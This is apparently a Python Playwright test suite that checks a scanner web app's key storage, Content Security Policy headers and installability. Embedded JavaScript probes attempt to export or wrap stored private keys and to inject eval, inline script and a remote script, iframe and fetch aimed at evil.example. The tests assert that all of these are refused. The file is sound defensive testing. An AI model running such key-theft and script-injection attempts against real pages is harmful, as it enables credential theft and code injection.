"""What holds whatever a page of the app does: its key stays, nothing foreign runs, it can be installed."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import httpx
from people import PATIENCE, Phone, Town
from playwright.sync_api import Browser, expect
from running_system import ROOT
from silent_browser import SILENT

_FORMATS = ["raw", "pkcs8", "spki", "jwk"]
# Everything that a script in the page could try; every way ends in the name of an error, or in "exported".
_TRY_TO_EXPORT = """
async (formats) => {
  const done = (request) => new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
  const found = [];
  const seek = (value, path) => {
    if (value instanceof CryptoKey) found.push({path, key: value});
    else if (value !== null && typeof value === "object" && !ArrayBuffer.isView(value))
      for (const [name, part] of Object.entries(value)) seek(part, `${path}.${name}`);
  };
  for (const {name} of await indexedDB.databases()) {
    const db = await done(indexedDB.open(name));
    for (const store of db.objectStoreNames) {
      const kept = await done(db.transaction(store).objectStore(store).getAll());
      kept.forEach((value) => seek(value, `${name}.${store}`));
    }
    db.close();
  }
  const told = (work) => work.then(() => "exported", (error) => error.name);
  const wrapping = await crypto.subtle.generateKey({name: "AES-GCM", length: 256}, false, ["wrapKey"]);
  const iv = new Uint8Array(12);
  const triesOn = async (key) => {
    const tries = {};
    for (const format of formats) {
      tries[`export ${format}`] = await told(crypto.subtle.exportKey(format, key));
      tries[`wrap ${format}`] = await told(crypto.subtle.wrapKey(format, key, wrapping, {name: "AES-GCM", iv}));
    }
    return tries;
  };
  const through = (key) => new Promise((resolve) => {
    const {port1, port2} = new MessageChannel();
    port2.onmessage = ({data}) => resolve(data);
    port1.postMessage(key);
  });
  const stored = async (key) => {
    const opening = indexedDB.open("thief", 1);
    opening.onupgradeneeded = () => opening.result.createObjectStore("keys");
    const db = await done(opening);
    await done(db.transaction("keys", "readwrite").objectStore("keys").put(key, 1));
    const copy = await done(db.transaction("keys").objectStore("keys").get(1));
    db.close();
    await done(indexedDB.deleteDatabase("thief"));
    return copy;
  };
  const examine = async (key) => ({
    type: key.type,
    isExtractable: key.extractable,
    json: JSON.stringify(key),
    tries: {
      itself: await triesOn(key),
      cloned: await triesOn(structuredClone(key)),
      "through a port": await triesOn(await through(key)),
      "kept again": await triesOn(await stored(key)),
    },
  });
  const own = await crypto.subtle.generateKey({name: "ECDSA", namedCurve: "P-256"}, true, ["sign"]);
  return {
    found: await Promise.all(found.map(async ({path, key}) => ({path, ...(await examine(key))}))),
    readable: await examine(own.privateKey),
    plain: JSON.stringify({...localStorage}) + document.cookie,
  };
}
"""
# A timer's code is the page's own; what a test's tool runs itself may do what the policy forbids.
_RUN_FOREIGN_CODE = """
() => new Promise((resolve) => setTimeout(() => {
  const refused = globalThis.refusedByPolicy = [];
  document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
  const tries = {};
  const attempt = (name, run) => {
    try { run(); } catch (error) { tries[name] = error.name; }
  };
  attempt("eval", () => { eval("globalThis.ranForeign = 1"); });
  attempt("Function", () => { new Function("globalThis.ranForeign = 1")(); });
  const script = document.createElement("script");
  script.textContent = "globalThis.ranForeign = 1";
  document.head.append(script);
  const far = document.createElement("script");
  far.src = "https://evil.example/foreign.js";
  document.head.append(far);
  document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror="globalThis.ranForeign = 1">`);
  document.body.insertAdjacentHTML("beforeend", `<p style="position: fixed" id="styled"></p>`);
  const frame = document.createElement("iframe");
  frame.src = "https://evil.example/";
  document.body.append(frame);
  fetch("https://evil.example/").catch(() => undefined);
  resolve({tries, position: getComputedStyle(document.getElementById("styled")).position});
}))
"""
_REFUSED = {
    "script-src",  # eval and Function
    "script-src-elem",
    "script-src-attr",
    "style-src-attr",
    "frame-src",
    "connect-src",
}


def test_the_private_key_cannot_be_read_by_any_way_out_of_the_page(crew: Phone) -> None:
    crew.page.evaluate("location.hash = '#/'")
    home = crew.find("scan-open").or_(crew.find("start-lot-food"))
    expect(home).to_be_visible(timeout=PATIENCE)
    told: dict[str, Any] = crew.page.evaluate(_TRY_TO_EXPORT, _FORMATS)
    private = [key for key in told["found"] if key["type"] == "private"]
    assert len(private) == 1, told["found"]
    for key in told["found"]:
        assert not key["isExtractable"], key["path"]
        assert key["json"] == "{}"
        refused = {answer for tries in key["tries"].values() for answer in tries.values()}
        assert refused <= {"InvalidAccessError", "NotSupportedError"}, key
    # The same tries succeed on a key that may be read.
    assert told["readable"]["tries"]["cloned"]["export pkcs8"] == "exported"
    assert told["readable"]["tries"]["kept again"]["export jwk"] == "exported"
    assert "key" not in told["plain"].lower()


def test_every_file_of_the_app_forbids_what_is_not_its_own(town: Town) -> None:
    dist = ROOT / "scanner_app" / "dist"
    files = [str(file.relative_to(dist)) for file in dist.rglob("*") if file.is_file()]
    assert "sw.js" in files
    for path in ["/app/", "/console/registrar", *(f"/app/{name}" for name in files)]:
        answer = httpx.get(town.system.url + path)
        rules = [rule.split() for rule in answer.headers["content-security-policy"].split(";")]
        policy = {name: set(sources) for name, *sources in rules}
        assert policy["default-src"] == {"'none'"}, path
        assert policy["script-src"] == {"'self'", "'wasm-unsafe-eval'"}, path
        for name in ("style-src", "worker-src"):
            assert policy[name] == {"'self'"}, path
        # A gate's scale speaks on the gate's own machine; nobody else's can be asked.
        assert policy["connect-src"] == {"'self'", "http://127.0.0.1:*"}, path
        for name in ("base-uri", "form-action", "frame-ancestors"):
            assert policy[name] == {"'none'"}, path


def test_nothing_foreign_runs_in_the_app(town: Town, crew: Phone) -> None:
    told = crew.page.evaluate(_RUN_FOREIGN_CODE)
    assert told["tries"] == {"eval": "EvalError", "Function": "EvalError"}
    assert told["position"] == "static"
    # The browser tells each refusal when it gets to it.
    wanted = "(wanted) => wanted.every((directive) => globalThis.refusedByPolicy.includes(directive))"
    crew.page.wait_for_function(wanted, arg=sorted(_REFUSED), timeout=PATIENCE)
    assert not crew.page.evaluate("() => 'ranForeign' in globalThis")
    crew.page.reload()
    # It says what it has kept from running, too; that was asked for.
    town.watch.complaints[:] = [said for said in town.watch.complaints if "Content Security Policy" not in said]
    town.watch.requests[:] = [url for url in town.watch.requests if "evil.example" not in url]


def test_the_app_can_be_installed(town: Town, browser: Browser, tmp_path: Path) -> None:
    # A browser of its own: one that forgets everything installs nothing.
    context = browser.browser_type.launch_persistent_context(
        tmp_path, executable_path=shutil.which("chromium"), args=SILENT
    )
    town.watch.over(context)
    page = context.new_page()
    page.goto(town.system.url + "/app/")
    page.get_by_test_id("enrol-scan").wait_for(timeout=PATIENCE)
    page.wait_for_function("() => navigator.serviceWorker.controller !== null", timeout=PATIENCE)
    session = context.new_cdp_session(page)
    assert session.send("Page.getInstallabilityErrors")["installabilityErrors"] == []
    manifest = session.send("Page.getAppManifest")
    assert manifest["errors"] == []
    assert manifest["url"] == town.system.url + "/app/manifest.webmanifest"
    context.close()
